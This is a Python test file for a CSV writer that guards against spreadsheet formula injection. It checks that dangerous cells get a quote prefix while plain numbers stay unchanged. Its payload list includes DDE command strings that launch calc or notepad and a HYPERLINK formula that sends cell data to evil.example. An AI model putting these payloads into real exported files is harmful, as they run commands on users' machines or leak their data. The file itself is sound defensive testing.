"""Formula injection: every CSV revloop writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revloop.engine.imports.safety import (
    TRIGGERS,
    SafeCsvWriter,
    neutralize_cell,
    restore_cell,
)

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1-1",
    "-2+3",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "-cmd|' /C notepad'!A0",
    "+",
    "@",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_prefixed_with_a_quote(payload: str) -> None:
    assert neutralize_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-42", "+3.5", "-1,234.50", "-1e5", "-0.5", "42"])
def test_plain_numbers_stay_usable(number: str) -> None:
    assert neutralize_cell(number) == number


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (-42, "-42"),
        (Decimal("-1.50"), "-1.50"),
        (-0.5, "-0.5"),
        (True, "True"),
        ("Ada", "Ada"),
        ("a=b", "a=b"),
        ("+49 30 1234", "'+49 30 1234"),
    ],
)
def test_other_values(value: object, text: str) -> None:
    assert neutralize_cell(value) == text


def test_the_writer_neutralises_every_cell() -> None:
    buffer = io.StringIO(newline="")
    writer = SafeCsvWriter(buffer)
    writer.writerows([["name", "note"], ["Ada", "=cmd|' /C calc'!A0"], ["Bob", -42]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "note"],
        ["Ada", "'=cmd|' /C calc'!A0"],
        ["Bob", "-42"],
    ]


@given(st.text(max_size=30))
def test_nothing_written_starts_with_a_trigger_unless_it_is_a_number(text: str) -> None:
    written = neutralize_cell(text)
    first = written.lstrip(" ")[:1]
    if first in TRIGGERS and first:
        assert written.strip(" ").lstrip("+-")[:1].isdigit() or written.strip(" ")[1:2] in ".,"


@given(st.text(max_size=30))
def test_restoring_undoes_neutralising(text: str) -> None:
    if text.startswith("'"):
        return  # a value that already started with a quote is the documented edge
    assert restore_cell(neutralize_cell(text)) == text
